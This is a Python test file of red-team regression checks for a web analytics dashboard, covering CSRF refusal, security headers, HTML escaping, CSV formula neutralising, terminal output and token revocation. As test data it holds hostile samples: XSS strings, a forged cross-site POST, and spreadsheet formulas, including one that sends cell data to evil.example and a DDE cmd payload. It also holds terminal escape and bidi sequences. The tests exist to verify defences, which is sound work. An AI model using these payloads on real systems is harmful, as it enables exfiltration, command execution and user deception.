"""Red-team regressions for the web surface: CSRF, headers, escaping, exports, terminal output."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import urllib.parse
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest

from footfall.server.stores.base import EventRecord
from tests.conftest import GOLDEN_APP, InThreadServer

PASSWORD = "correct horse battery"
ADMIN = "admin@example.org"


def log_in(client: httpx.Client, email: str) -> str:
    """Log in through the form; the session's CSRF token, as the dashboard shows it."""
    page = client.get("/login")
    form_token = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    response = client.post("/login", data={"csrf": form_token, "email": email, "password": PASSWORD})
    assert response.status_code == 303, response.text
    picker = client.get("/")
    return re.search(r'name="csrf" value="([^"]+)"', picker.text).group(1)  # type: ignore[union-attr]


@pytest.fixture
def admin_server(app_server: InThreadServer) -> InThreadServer:
    app_server.app.state.context.accounts.add_user(ADMIN, PASSWORD, "admin", None)
    return app_server


def test_a_cross_site_text_plain_post_with_the_session_cookie_is_refused(admin_server: InThreadServer) -> None:
    """The red team re-keyed an app with a text/plain POST from a sibling subdomain."""
    rekey = json.dumps({"name": GOLDEN_APP, "ga4": [{"measurement_id": "G-EVIL", "api_secret": "attacker"}]})
    with httpx.Client(base_url=admin_server.url) as browser:
        csrf = log_in(browser, ADMIN)
        forged = browser.post(
            "/api/v1/apps",
            content=rekey,
            headers={"Content-Type": "text/plain", "Origin": "https://evil.example.org"},
        )
        assert forged.status_code == 403
        assert forged.json()["error"]["code"] == "csrf"
        wrong = browser.post("/api/v1/apps", content=rekey, headers={"X-CSRF-Token": "guessed"})
        assert wrong.status_code == 403 and wrong.json()["error"]["code"] == "csrf"
        schema = browser.put(f"/api/v1/apps/{GOLDEN_APP}/schema", content="{}")
        assert schema.status_code == 403 and schema.json()["error"]["code"] == "csrf"
        # Reads stay as they were; the token in the header lets the dashboard's own calls through.
        assert browser.get("/api/v1/apps").status_code == 200
        allowed = browser.post("/api/v1/apps", json={"name": "new-app"}, headers={"X-CSRF-Token": csrf})
        assert allowed.status_code == 201, allowed.text
    audit = admin_server.app.state.context.accounts.audit_log()
    assert not any("G-EVIL" in str(entry) for entry in audit)


def test_bearer_tokens_need_no_csrf_token(admin_server: InThreadServer) -> None:
    response = httpx.post(
        admin_server.url + "/api/v1/apps",
        json={"name": "by-token"},
        headers={"Authorization": f"Bearer {admin_server.token}"},
    )
    assert response.status_code == 201


# -- security headers and --public-url -------------------------------------------------------------

HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
}


def test_every_response_carries_the_security_headers(admin_server: InThreadServer) -> None:
    with httpx.Client(base_url=admin_server.url) as browser:
        responses = [
            browser.get("/healthz"),
            browser.get("/login"),
            browser.get("/api/v1/apps"),  # 401 JSON
            browser.get("/nowhere"),  # 404
            browser.post("/v1/batch", content=b"not json"),  # 400 from the collector
        ]
        log_in(browser, ADMIN)
        page = browser.get(f"/apps/{GOLDEN_APP}")
        stylesheet = re.search(r'<link rel="stylesheet" href="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
        responses += [page, browser.get(stylesheet)]
    for response in responses:
        for name, value in HEADERS.items():
            assert response.headers.get(name) == value, (response.request.url, name)
        policy = response.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, response.request.url
        assert "unsafe-inline" not in policy and "http" not in policy, "no inline code, no other origin"
        assert "strict-transport-security" not in response.headers, "no HSTS without an https public URL"
    assert responses[-1].headers["content-type"].startswith("text/css")
    assert "immutable" in responses[-1].headers["cache-control"]
    # The page itself needs nothing the policy forbids: no inline script, style element or style attribute.
    assert "<script" not in page.text and "<style" not in page.text and "style=" not in page.text
    assert re.search(r"\son[a-z]+=", page.text) is None, "no inline event handler"


def test_an_https_public_url_makes_cookies_secure_and_adds_hsts(app_server_factory: Any) -> None:
    server: InThreadServer = app_server_factory(public_url="https://footfall.example.org")
    server.app.state.context.accounts.add_user(ADMIN, PASSWORD, "admin", None)
    with httpx.Client(base_url=server.url) as browser:
        form = browser.get("/login")  # plain http here, as behind a TLS-terminating proxy
        assert "secure" in form.headers["set-cookie"].lower()
        assert form.headers["strict-transport-security"].startswith("max-age=")
        form_token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
        # httpx keeps Secure cookies off plain http, as a browser would: send the form cookie by hand.
        logged_in = browser.post(
            "/login",
            data={"csrf": form_token, "email": ADMIN, "password": PASSWORD},
            headers={"Cookie": f"footfall_login_csrf={form_token}"},
        )
        assert logged_in.status_code == 303, logged_in.text
        session_cookie = next(c for c in logged_in.headers.get_list("set-cookie") if c.startswith("footfall_session="))
        assert "secure" in session_cookie.lower() and "httponly" in session_cookie.lower()


def test_the_public_url_is_checked_and_makes_links_absolute(tmp_path: Any) -> None:
    from footfall.server.errors import UsageError
    from footfall.server.settings import absolute_url, resolve_settings

    settings = resolve_settings(tmp_path, {"public_url": "https://footfall.example.org/stats/"})
    assert absolute_url(settings, "/login?code=x") == "https://footfall.example.org/stats/login?code=x"
    local = resolve_settings(tmp_path, {"host": "0.0.0.0", "port": 8123})
    assert absolute_url(local, "/login") == "http://127.0.0.1:8123/login"
    for bad in ("footfall.example.org", "ftp://x.org", "https://x.org/?a=1", "https://user:pw@x.org", "https://"):
        with pytest.raises(UsageError):
            resolve_settings(tmp_path, {"public_url": bad})


# -- escaping on every page ---------------------------------------------------------------------------

HOSTILE = "<script>alert(1)</script>\"onmouseover=alert(2) x='"


class TagCollector(HTMLParser):
    """Every element and attribute a browser would build from the page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str, where: str) -> None:
    parser = TagCollector()
    parser.feed(html)
    assert not [t for t, _ in parser.tags if t == "script"], f"a script element on {where}"
    handlers = [(t, n) for t, attrs in parser.tags for n, v in attrs if n.startswith("on") and "alert" in (v or "")]
    assert not handlers, f"event handler attributes {handlers} on {where}"
    assert "<script>alert(1)" not in html, where


def hostile_event(app: str, when: dt.datetime, install: str) -> EventRecord:
    props = {
        "command": HOSTILE,
        "options": [HOSTILE],
        "outcome": HOSTILE,
        "duration": HOSTILE,
        "category": HOSTILE,
        "action": HOSTILE,
        "label": HOSTILE,
        HOSTILE: HOSTILE,
    }
    return EventRecord(
        when, when, app, HOSTILE, "command", install, install, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE,
        HOSTILE, HOSTILE, "DE", json.dumps(props), "native",
    )  # fmt: skip


def test_hostile_names_versions_and_values_are_inert_on_every_tab(admin_server: InThreadServer) -> None:
    from footfall.server.edge.dashboard import TABS

    # Added past the name check on purpose: the pages must not rely on it. No "/": an app's name is a path segment.
    app = "evil<img src=x onerror=alert(3)>\"onmouseover=alert(4) x='"
    admin_server.store.add_app(app)
    now = dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - dt.timedelta(hours=1)
    records = [hostile_event(app, now - dt.timedelta(days=d), f"i{d}") for d in range(3)]
    admin_server.store.write(records).result(timeout=30)
    quoted = urllib.parse.quote(app, safe="")
    with httpx.Client(base_url=admin_server.url) as browser:
        log_in(browser, ADMIN)
        admin_server.app.state.context.accounts.audit(HOSTILE, HOSTILE, app, HOSTILE)
        picker = browser.get("/")
        assert_inert(picker.text, "the app picker")
        assert "evil&lt;img src=x onerror=alert(3)&gt;" in picker.text
        shown = 0
        for tab in TABS:
            page = browser.get(f"/apps/{quoted}?tab={tab}&days=30")
            assert page.status_code == 200, (tab, page.text[:500])
            assert_inert(page.text, f"the {tab} tab")
            shown += page.text.count("&lt;script&gt;alert(1)&lt;/script&gt;")
        assert shown > 10, "the hostile values were rendered (escaped) on the tabs"
        refused_filter = browser.get(f"/apps/{quoted}?country=" + urllib.parse.quote(HOSTILE))
        assert refused_filter.status_code == 400
        assert_inert(refused_filter.text, "the filter error page")
        audit = browser.get("/admin/audit")
        assert audit.status_code == 200
        assert_inert(audit.text, "the audit log")
        assert audit.text.count("&lt;script&gt;alert(1)") >= 3


# -- a bounded version picker ---------------------------------------------------------------------------


def test_five_thousand_versions_keep_every_tab_small(admin_server: InThreadServer) -> None:
    from footfall.server.edge.dashboard import TABS

    now = dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - dt.timedelta(hours=1)
    records = []
    for index in range(5000):
        record = hostile_event(GOLDEN_APP, now, f"install{index}")
        props = json.dumps({"command": "build"})
        # Version 1.0.<n> sends n % 7 + 1 events: the most used versions are the ones suggested.
        for _ in range(index % 7 + 1):
            records.append(dataclasses.replace(record, app_version=f"1.0.{index}", os="linux", props=props))
    admin_server.store.write(records).result(timeout=120)
    rare = "1.0.7"  # one event: not among the suggested versions, still accepted as a filter
    with httpx.Client(base_url=admin_server.url, timeout=60) as browser:
        log_in(browser, ADMIN)
        for tab in TABS:
            page = browser.get(f"/apps/{GOLDEN_APP}?tab={tab}")
            assert page.status_code == 200
            assert len(page.content) < 100 * 1024, f"the {tab} tab is {len(page.content):,} bytes"
            suggested = re.findall(r'<datalist id="versions">(.*?)</datalist>', page.text, re.S)[0]
            values = re.findall(r'<option value="([^"]+)">', suggested)
            assert len(values) == 200
            assert all(int(v.rsplit(".", 1)[1]) % 7 == 6 for v in values), "the versions with the most events"
        filtered = browser.get(f"/apps/{GOLDEN_APP}?tab=versions&version={rare}")
        assert filtered.status_code == 200 and f'value="{rare}"' in filtered.text
        assert "more rows: export the CSV" in browser.get(f"/apps/{GOLDEN_APP}?tab=versions").text


# -- CSV exports and terminal reports ----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def test_csv_exports_neutralise_formulas(admin_server: InThreadServer) -> None:
    now = dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - dt.timedelta(hours=1)
    records = [
        dataclasses.replace(hostile_event(GOLDEN_APP, now, f"i{i}"), props=json.dumps({"command": command}))
        for i, command in enumerate([*FORMULAS, "build", "-"])
    ]
    admin_server.store.write(records).result(timeout=30)
    export = httpx.get(
        f"{admin_server.url}/api/v1/apps/{GOLDEN_APP}/reports/commands.csv?days=7",
        headers={"Authorization": f"Bearer {admin_server.token}"},
    )
    assert export.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(export.text, newline="")))
    assert header == ["command", "runs", "installs"]
    commands = {row[0]: row[1:] for row in rows}
    assert set(commands) == {"'" + formula for formula in FORMULAS} | {"build", "'-"}
    assert all(counts == ["1", "1"] for counts in commands.values()), "numbers are left as numbers"


TERMINAL_ATTACKS = [
    "\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\",  # an OSC 8 hyperlink
    "\x1b[2J\x1b[31mcleared",  # clear the screen, then red
    "[link=http://evil.example]markup link[/link]",
    "[red]red[/red] [bold]bold",
    "fake\rOK",
    "\u202eevil-to-the-right",
]


def report_with(values: list[str]) -> dict[str, Any]:
    return {
        "report": "commands",
        "title": "Commands [blink]",
        "app": "[red]app",
        "start": "2026-11-01",
        "end": "2026-11-28",
        "columns": ["command", "runs"],
        "rows": [{"command": value, "runs": 1} for value in values],
        "latest": "[link=http://evil.example]9.9[/link]",
    }


@pytest.mark.parametrize("terminal", [False, True], ids=["plain", "terminal"])
def test_terminal_reports_show_data_as_inert_text(terminal: bool) -> None:
    from rich.console import Console

    from footfall.server.operator.terminal import print_report, print_summary

    out = io.StringIO()
    console = Console(file=out, width=300, force_terminal=terminal, color_system="truecolor" if terminal else None)
    print_report(report_with(TERMINAL_ATTACKS), console)
    summary = {
        "app": "[red]app\x1b[5m",
        "start": "2026-11-01",
        "end": "2026-11-28",
        "events": 3,
        "installs": 1,
        "runs": 1,
        "per_day": [{"events": 3}],
        "top_events": [{"name": attack, "events": 1} for attack in TERMINAL_ATTACKS],
    }
    print_summary(summary, console)
    text = out.getvalue()
    for sequence in ("\x1b]", "\x1b[2J", "\x1b[31m", "\x1b[5m", "\r", "\u202e"):
        assert sequence not in text, repr(sequence)
    assert "\\x1b]8;;http://evil.example" in text and "\\x1b[2J" in text and "\\u202e" in text
    assert "[link=http://evil.example]markup link[/link]" in text and "[red]red[/red]" in text
    assert "[red]app" in text and "Commands [blink]" in text
    if not terminal:
        assert "\x1b" not in text, "a console without colour prints no escape sequence at all"


def test_csv_on_the_terminal_neutralises_formulas_and_controls(capsys: pytest.CaptureFixture[str]) -> None:
    from footfall.server.operator.terminal import print_csv

    print_csv(["command", "runs"], [{"command": value, "runs": -1} for value in [*FORMULAS, *TERMINAL_ATTACKS]])
    printed = capsys.readouterr().out
    assert "\x1b" not in printed
    header, *rows = list(csv.reader(io.StringIO(printed, newline="")))
    assert header == ["command", "runs"]
    assert all(row[1] == "-1" for row in rows), "numbers are left as numbers"
    assert [row[0][0] for row in rows[: len(FORMULAS)]] == ["'"] * len(FORMULAS)
    assert rows[len(FORMULAS)][0].startswith("\\x1b]8;;")


# -- the audit log and API tokens in the dashboard -------------------------------------------------


def test_admins_see_the_audit_log_and_others_get_403(admin_server: InThreadServer) -> None:
    accounts = admin_server.app.state.context.accounts
    accounts.add_user("viewer@example.org", PASSWORD, "viewer", GOLDEN_APP)
    with httpx.Client(base_url=admin_server.url) as viewer:
        log_in(viewer, "viewer@example.org")
        assert 'href="/admin/audit"' not in viewer.get("/").text
        refused = viewer.get("/admin/audit")
        assert refused.status_code == 403 and "role_change" not in refused.text
    assert httpx.get(admin_server.url + "/admin/audit").headers["location"].startswith("/login")
    with httpx.Client(base_url=admin_server.url) as admin:
        log_in(admin, ADMIN)
        assert 'href="/admin/audit"' in admin.get("/").text
        page = admin.get("/admin/audit")
    assert page.status_code == 200
    actions = re.findall(r'<tr data-action="([^"]+)">', page.text)
    assert actions[:2] == ["login", "login"] and "role_change" in actions, "newest first"
    assert "viewer@example.org is viewer" in page.text


def test_an_account_revokes_its_own_tokens_and_no_one_elses(admin_server: InThreadServer) -> None:
    accounts = admin_server.app.state.context.accounts
    accounts.add_user("owner@example.org", PASSWORD, "owner", GOLDEN_APP)
    accounts.add_user("other@example.org", PASSWORD, "owner", GOLDEN_APP)
    mine = accounts.create_token("owner@example.org", name="<b>laptop</b>")
    theirs = accounts.create_token("other@example.org", name="ci")
    their_id = accounts.list_tokens("other@example.org")[0].id
    (my_id,) = [t.id for t in accounts.list_tokens("owner@example.org")]
    api = f"{admin_server.url}/api/v1/apps"
    assert httpx.get(api, headers={"Authorization": f"Bearer {mine}"}).status_code == 200
    with httpx.Client(base_url=admin_server.url) as owner:
        csrf = log_in(owner, "owner@example.org")
        page = owner.get("/account")
        assert f'data-token="{my_id}"' in page.text and their_id not in page.text
        assert "&lt;b&gt;laptop&lt;/b&gt;" in page.text
        assert owner.post(f"/account/tokens/{my_id}/revoke", data={"csrf": "forged"}).status_code == 403
        assert owner.post(f"/account/tokens/{their_id}/revoke", data={"csrf": csrf}).status_code == 404
        revoked = owner.post(f"/account/tokens/{my_id}/revoke", data={"csrf": csrf})
        assert revoked.status_code == 303 and revoked.headers["location"] == "/account"
        assert f'data-token="{my_id}"' not in owner.get("/account").text
    assert httpx.get(api, headers={"Authorization": f"Bearer {mine}"}).status_code == 401
    assert httpx.get(api, headers={"Authorization": f"Bearer {theirs}"}).status_code == 200
    with httpx.Client(base_url=admin_server.url) as admin:
        csrf = log_in(admin, ADMIN)
        assert f'data-token="{their_id}"' in admin.get("/account").text, "an admin sees every account's tokens"
        assert admin.post(f"/account/tokens/{their_id}/revoke", data={"csrf": csrf}).status_code == 303
    assert httpx.get(api, headers={"Authorization": f"Bearer {theirs}"}).status_code == 401
    assert ("token_revoke", "owner@example.org") in {(e.action, e.actor) for e in accounts.audit_log()}
